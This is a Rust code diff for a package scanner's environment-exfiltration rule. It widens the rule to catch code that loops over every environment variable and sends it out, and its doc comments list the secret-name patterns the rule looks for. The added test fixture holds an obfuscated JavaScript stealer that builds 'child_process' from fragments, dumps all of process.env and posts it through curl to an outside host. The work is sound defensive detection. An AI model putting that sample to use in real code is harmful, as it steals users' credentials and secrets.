@@ -18,7 +18,9 @@ diligence_finding::declare_rule! {
     /// package's own modules, into an HTTP body, URL or header, a socket or WebSocket write, a beacon, a mail
     /// sent through an SMTP transport the code creates (`nodemailer.createTransport({ host }).sendMail(…)`,
     /// the destination being the SMTP host) or a DNS name (critical); one secret-named variable (`NPM_TOKEN`, `AWS_SECRET_ACCESS_KEY`) sent is medium, or
-    /// critical into a DNS name or an exfiltration-style endpoint. Without a complete path: `process.env`
+    /// critical into a DNS name or an exfiltration-style endpoint; a computed `process.env[name]` read in the
+    /// function that iterates the variable names, with no constant name read there, is every variable taken
+    /// one by one (`Object.keys(e).map(n => n + '=' + e[n])`): critical like the whole. Without a complete path: `process.env`
     /// serialised as a whole (`JSON.stringify(process.env)`; `{...process.env}` stored next to host or user
     /// details; `Object.entries(process.env)` / `for…in` iteration filtered by secret-looking names such as
     /// `/TOKEN|SECRET/`) in a package with a network sink, strongest in the same function or file.
@@ -152,8 +154,9 @@ fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
 }
 
 /// True when the path's source is a computed `process.env[name]` read in a function that
-/// filters variable names for secrets (`/PRIVATE_?KEY|TOKEN/.test(k)`): the environment
-/// iterated and every secret-named variable taken, not one variable an API client needs.
+/// iterates the environment and filters variable names for secrets (`/PRIVATE_?KEY|TOKEN/.test(k)`),
+/// or filters nothing: the environment iterated and every (secret-named) variable taken, not one
+/// variable an API client needs.
 fn harvested(p: &PackageFacts, path: &crate::flow::FlowPath) -> bool {
     if path.from.what != "process.env[…]" {
         return false;
@@ -164,7 +167,23 @@ fn harvested(p: &PackageFacts, path: &crate::flow::FlowPath) -> bool {
     f.signals
         .iter()
         .filter(|s| s.line == path.from.line)
-        .any(|s| f.has_in(Kind::EnvSecretFilter, s.func) && f.has_in(Kind::EnvIterate, s.func))
+        .any(|s| {
+            f.has_in(Kind::EnvIterate, s.func)
+                && (f.has_in(Kind::EnvSecretFilter, s.func)
+                    // Unfiltered: only when the module that loops also sends (a path through
+                    // a CLI's option plumbing across chunks is no harvest).
+                    || (path.to.file == path.from.file && !filtered(f, s.func)))
+        })
+}
+
+/// True when function `func` of `f` reads only some variables by name: a secret filter or a
+/// constant-named `process.env.X` next to the iteration. With neither, the computed reads in
+/// the iterating function take every variable: the whole environment, one by one
+/// (`Object.keys(e).map(n => n + '=' + e[n])`).
+fn filtered(f: &crate::signal::FileFacts, func: u32) -> bool {
+    f.signals
+        .iter()
+        .any(|s| s.func == func && s.kind == Kind::EnvRead && s.detail.starts_with("process.env."))
 }
 
 /// True when the path's source is a computed `process.env[name]` read within two lines of
@@ -297,6 +316,24 @@ fn report(
 #[cfg(test)]
 mod tests {
     use crate::rules::test_util::{PJ, hits, scan, severity};
+
+    /// Every variable read one by one in the loop over the names and posted by a curl child
+    /// process (names folded from concatenations and char codes); a config loader reading
+    /// its own variables by name while iterating is only a secret read (medium).
+    #[test]
+    fn positive_every_variable_one_by_one() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const q = require('child' + '_process');\nconst m = [101, 120, 101, 99].map((x) => String.fromCharCode(x)).join('');\nexports.t = () => {\n  const e = process['en' + 'v'];\n  const data = Object.keys(e).map((n) => n + '=' + e[n]).join('\\n');\n  q[m + 'File']('curl', ['-s', '--data-binary', data, 'https://example.com/t'], () => {});\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            crate::rules::test_util::severity(&s, "code/env-exfiltration"),
+            Some(diligence_finding::Severity::Critical)
+        );
+    }
 
     /// Secret-named variables harvested at load and mailed through an SMTP transport with
     /// hard-coded credentials (the trusted-service exfiltration of the 2025 Solana stealers).
